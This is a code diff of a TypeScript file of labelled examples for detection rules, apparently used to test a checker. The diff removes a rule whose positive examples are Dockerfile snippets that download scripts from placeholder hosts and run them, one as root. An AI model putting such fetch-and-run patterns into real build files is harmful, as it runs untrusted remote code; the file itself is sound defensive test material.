@@ -30,18 +30,4 @@ export const RECIPE_EVALUATED_EXAMPLES = {
       "`curl http://198.51.100.2/health`",
     ],
   },
-  "recipe-image-runs-stranger": {
-    positive: [
-      "```dockerfile\nADD https://layers.test/entry.sh /e.sh\nRUN sh /e.sh\n```",
-      "```\nADD https://boot.example/a /a.sh\nRUN bash /a.sh --root\n```",
-      "```\nADD https://boot.example/p.py /p.py\nRUN python3 /p.py\n```",
-      "```\nADD https://boot.example/t /t\nRUN chmod +x /t && /t\n```",
-    ],
-    negative: [
-      "```\nADD https://sample.example/a.sh /a.sh\nRUN sh /a.sh\n```",
-      "```\nADD . /app\nRUN sh /app/a.sh\n```",
-      "```\nADD https://data.example/a.csv /a.csv\nRUN wc /a.csv\n```",
-      "```\nCOPY e.sh /e.sh\nRUN sh /e.sh\n```",
-    ],
-  },
 } satisfies Record<string, InstructionRule["examples"]>;
